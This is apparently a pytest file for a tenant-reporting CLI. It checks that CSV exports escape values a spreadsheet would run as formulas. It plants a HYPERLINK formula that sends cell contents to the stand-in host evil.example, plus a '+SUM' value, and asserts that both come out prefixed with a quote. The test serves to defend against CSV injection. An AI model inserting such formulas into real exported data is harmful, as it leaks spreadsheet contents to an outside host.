"""--format csv neutralises tenant text a spreadsheet would run as a formula (issue 14.16, the
command line's half): a user named ``=HYPERLINK(...)`` in the tenant reaches the CSV with a leading
quote, while numbers and money stay numbers."""

from __future__ import annotations

import csv
import io

from click.testing import CliRunner

from cli.demo_tenant import simulator_settings
from cli.main import cli
from graphsim.server import GraphSimulator

EVIL = '=HYPERLINK("https://evil.example/?q="&A1,"Open")'


def test_report_csv_escapes_formulas_from_the_tenant(store_url: str) -> None:
    with GraphSimulator(users=40, seed=3) as sim:
        victim = next(u for u in sim.tenant.users if u.direct and u.department)
        victim.given_name, victim.surname = EVIL, ""
        victim.department = "+SUM(1,2)"
        env = simulator_settings(sim, store_url).environ()
        assert CliRunner().invoke(cli, ["collect"], env=env).exit_code == 0
    result = CliRunner().invoke(cli, ["report", "users", "--format", "csv"], env=env)
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    (row,) = [r for r in rows if r["id"] == victim.id]
    assert row["display_name"] == "'" + EVIL  # Graph trims the joined name
    assert row["department"] == "'+SUM(1,2)"
    # Nothing else starts like a formula, and counts stay plain numbers.
    assert not [v for r in rows for v in r.values() if v[:1] in ("=", "+", "@")]
    skus = list(
        csv.DictReader(
            io.StringIO(CliRunner().invoke(cli, ["report", "skus", "--format", "csv"], env=env).stdout)
        )
    )
    assert all(r["available"].lstrip("-").isdigit() for r in skus)
